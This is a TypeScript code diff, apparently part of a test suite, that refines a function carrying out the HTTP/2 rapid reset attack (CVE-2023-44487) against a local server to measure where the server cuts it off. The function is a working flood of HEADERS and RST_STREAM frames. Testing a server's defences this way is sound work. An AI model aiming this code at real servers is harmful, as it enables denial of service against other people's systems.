@@ -3,7 +3,7 @@
 import * as net from "node:net";
 
 const PREFACE = Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", "latin1");
-const TYPE = { HEADERS: 0x1, RST_STREAM: 0x3, SETTINGS: 0x4, GOAWAY: 0x7 } as const;
+const TYPE = { HEADERS: 0x1, RST_STREAM: 0x3, SETTINGS: 0x4, PING: 0x6, GOAWAY: 0x7 } as const;
 const END_HEADERS = 0x4;
 const CANCEL = 0x8;
 /** HPACK: :method POST, :scheme http, :path / (static table 3, 6, 4), :authority "x" (literal, not indexed). */
@@ -31,16 +31,21 @@ export interface RapidResetOutcome {
 /**
  * The HTTP/2 "rapid reset" attack (CVE-2023-44487) on one connection: a
  * request's HEADERS and at once its RST_STREAM (CANCEL), `count` times, in
- * batches, stopping at the server's GOAWAY.
+ * batches, stopping at the server's GOAWAY. After each batch it waits for the
+ * answer to a PING, so the server has read the batch before the next one
+ * goes: what is measured is the server's limit, not how many frames one of
+ * its socket reads happened to hold on a busy machine.
  */
-export function rapidReset(port: number, count: number, batch = 100): Promise<RapidResetOutcome> {
+export function rapidReset(port: number, count: number, batch = 50): Promise<RapidResetOutcome> {
   return new Promise((resolve) => {
     const socket = net.connect(port, "127.0.0.1");
     let sent = 0;
     let goawayCode: number | undefined;
     let seenByServer: number | undefined;
     let inbox = Buffer.alloc(0);
+    let pong: (() => void) | undefined;
     const finish = () => {
+      pong?.();
       socket.destroy();
       resolve({ sent, goawayCode, seenByServer });
     };
@@ -55,6 +60,7 @@ export function rapidReset(port: number, count: number, batch = 100): Promise<Ra
           goawayCode = inbox.readUInt32BE(9 + 4);
         }
         if (inbox[3] === TYPE.SETTINGS && (inbox[4]! & 0x1) === 0) socket.write(frame(TYPE.SETTINGS, 0x1, 0, Buffer.alloc(0))); // ACK
+        if (inbox[3] === TYPE.PING && (inbox[4]! & 0x1) === 1) pong?.();
         inbox = inbox.subarray(9 + length);
       }
       if (goawayCode !== undefined) finish();
@@ -69,8 +75,8 @@ export function rapidReset(port: number, count: number, batch = 100): Promise<Ra
           code.writeUInt32BE(CANCEL);
           frames.push(frame(TYPE.HEADERS, END_HEADERS, id, REQUEST_HEADERS), frame(TYPE.RST_STREAM, 0, id, code));
         }
-        socket.write(Buffer.concat(frames));
-        await new Promise((r) => setTimeout(r, 1));
+        socket.write(Buffer.concat([...frames, frame(TYPE.PING, 0, 0, Buffer.alloc(8))]));
+        await new Promise<void>((resolve) => (pong = resolve));
       }
       // Give a GOAWAY a moment to arrive, then report.
       setTimeout(finish, 2_000);
